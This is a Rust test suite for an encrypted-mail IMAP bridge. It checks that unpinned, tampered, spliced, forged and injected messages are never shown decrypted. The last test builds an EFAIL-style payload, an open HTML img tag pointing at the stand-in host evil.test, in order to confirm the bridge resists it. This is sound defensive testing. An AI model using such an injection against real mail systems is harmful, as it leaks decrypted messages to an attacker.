//! What is not opened: mail of sealers that are not pinned, changed mail, other people's keys, foreign encrypted mail. It is shown as it lies, and marked; and one whose
//! body fails after its list view was shown is not shown at all (format A17, §14).

use std::fs;

use super::scene::{Scene, message};
use crate::program::Stage;

/// The files of INBOX by their place in UID order.
fn file(scene: &Scene) -> std::path::PathBuf {
    let mut files: Vec<_> =
        fs::read_dir(scene.maildir().join("cur")).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    assert_eq!(files.len(), 1);
    files.remove(0)
}

/// As IMAP carries it.
fn on_the_wire(octets: &[u8]) -> Vec<u8> {
    octets.to_vec()
}

#[test]
fn mail_of_unknown_sealers_is_shown_as_it_lies() {
    let stranger = Stage::with_owner();
    let scene = Scene::new();
    // Sealed to our own key, by somebody who is not pinned here.
    let certificate = scene.stage.good("key export", b"");
    stranger.write("alice.asc", certificate);
    let sealed = stranger.good("seal --cert alice.asc", &message("from a stranger", "never opened"));
    fs::write(scene.maildir().join("cur/1.stranger.host:2,"), &sealed).unwrap();
    let bridge = scene.bridge();
    let mut client = bridge.selected("INBOX");
    assert_eq!(client.good("FETCH 1 BODY.PEEK[]").octets(), on_the_wire(&sealed));
    let told = client.good("FETCH 1 (FLAGS ENVELOPE RFC822.SIZE)").text();
    assert!(told.contains("$SealedForeign") && told.contains("\"[...]\""), "{told}");
    assert!(told.contains(&format!("RFC822.SIZE {}", sealed.len())), "{told}");
    for key in ["TEXT \"never opened\"", "SUBJECT stranger"] {
        assert!(client.good(&format!("SEARCH {key}")).found().is_empty(), "{key}");
    }
    drop(client);
    drop(bridge);
    // Pinned by its owner, it is another message for mail programs: its number is a new one.
    let line = stranger.text("key export --sealer", b"");
    scene.stage.write("stranger.sealer", line);
    scene.stage.good("key trust-sealer stranger.sealer", b"");
    let bridge = scene.bridge();
    let mut client = bridge.selected("INBOX");
    assert!(client.say("UID FETCH 1 BODY.PEEK[]").tagged.starts_with("NO [EXPUNGEISSUED]"));
    client.good("NOOP");
    let told = client.good("UID FETCH 1:* (FLAGS BODY.PEEK[TEXT])").text();
    assert!(told.contains("UID 2") && told.contains("never opened") && told.contains("$SealedOK"), "{told}");
}

#[test]
fn a_body_that_fails_after_its_list_view_is_not_shown_in_any_form() {
    let scene = Scene::sealed(&[message("the subject", "the body")]);
    let path = file(&scene);
    let good = fs::read(&path).unwrap();
    let bridge = scene.bridge();
    let mut client = bridge.selected("INBOX");
    assert!(client.good("FETCH 1 ENVELOPE").text().contains("the subject"));
    // One letter in the middle of the ciphertext.
    let mut changed = good.clone();
    let at = changed.len() - 400;
    changed[at] = if changed[at] == b'A' { b'B' } else { b'A' };
    fs::write(&path, &changed).unwrap();
    for items in [
        "BODY.PEEK[]",
        "RFC822",
        "BODY[TEXT]",
        "BODY.PEEK[HEADER]",
        "BODY.PEEK[HEADER.FIELDS (SUBJECT X-SPAM)]",
        "(ENVELOPE BODY.PEEK[])",
    ] {
        let answer = client.say(&format!("FETCH 1 {items}"));
        assert!(answer.tagged.starts_with("NO ") && answer.untagged.is_empty(), "{items}: {answer:?}");
    }
    // What the list view holds is shown, as in ENVELOPE: no body is asked for it.
    let told = client.good("FETCH 1 BODY.PEEK[HEADER.FIELDS (SUBJECT DATE)]").text();
    assert!(told.contains("Subject: the subject\r\n"), "{told}");
    let told = client.good("FETCH 1 (FLAGS ENVELOPE)").text();
    assert!(told.contains("$SealedBroken") && told.contains("the subject") && !told.contains("\\Seen"), "{told}");
    assert!(client.good("SEARCH BODY body").found().is_empty());
    assert_eq!(client.good("SEARCH KEYWORD $SealedBroken").found(), [1]);
    // Mended from a backup, it is as it was.
    fs::write(&path, &good).unwrap();
    assert!(client.good("FETCH 1 BODY.PEEK[TEXT]").text().contains("the body"));
    assert!(client.good("FETCH 1 FLAGS").text().contains("$SealedOK"));
}

#[test]
fn changed_spliced_and_forged_mail_is_never_opened() {
    let scene = Scene::new();
    let one = scene.stage.text("seal", &message("first secret", "alpha"));
    let two = scene.stage.text("seal", &message("second secret", "beta"));
    let field = |mail: &str, name: &str| {
        let from = mail.find(&format!("\r\n{name}:")).unwrap() + 2;
        let mut to = from + mail[from..].find("\r\n").unwrap() + 2;
        while mail[to..].starts_with([' ', '\t']) {
            to += mail[to..].find("\r\n").unwrap() + 2;
        }
        mail[from..to].to_owned()
    };
    let spliced_fields = one.replace(&field(&one, "Sealed-Fields"), &field(&two, "Sealed-Fields"));
    let spliced_mark = one.replace(&field(&one, "Sealed-Mail"), &field(&two, "Sealed-Mail"));
    let label = "Sealed-Mail: v=1; p=pgp1; id=AAAAAAAAAAAAAAAAAAAAAA; bh=x; s=y; sig=z\r\n";
    let forged = format!("{label}From: mallory@example.org\r\nSubject: forged\r\n\r\nplain\r\n");
    let efail = one.replacen(
        "\r\n\r\n",
        "\r\nX: y\r\n\r\n--other\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n",
        1,
    );
    let odd = [spliced_fields, spliced_mark, forged];
    for (number, mail) in odd.iter().enumerate() {
        fs::write(scene.maildir().join(format!("cur/{number}.odd.host:2,")), mail).unwrap();
    }
    fs::write(scene.maildir().join("cur/9.efail.host:2,"), &efail).unwrap();
    let bridge = scene.bridge();
    let mut client = bridge.selected("INBOX");
    let mut shown: Vec<String> = Vec::new();
    for number in 1..=4 {
        let answer = client.say(&format!("FETCH {number} BODY.PEEK[]"));
        let text = answer.text();
        assert!(!text.contains("alpha") || !text.contains("evil"), "parts of both: {text}");
        assert!(!text.contains("beta") && !text.contains("first secret") || text.contains("Subject: first secret"));
        shown.push(text);
    }
    for mail in &odd {
        assert!(shown.iter().any(|text| text.contains(mail.as_str())), "as it lies");
    }
    // What was put around a sealed message is not part of its original.
    assert!(shown.iter().all(|text| !text.contains("evil.test")), "nothing of the attacker's with what is inside");
    for key in ["BODY beta", "SUBJECT second"] {
        assert!(client.good(&format!("SEARCH {key}")).found().is_empty(), "{key}");
    }
}
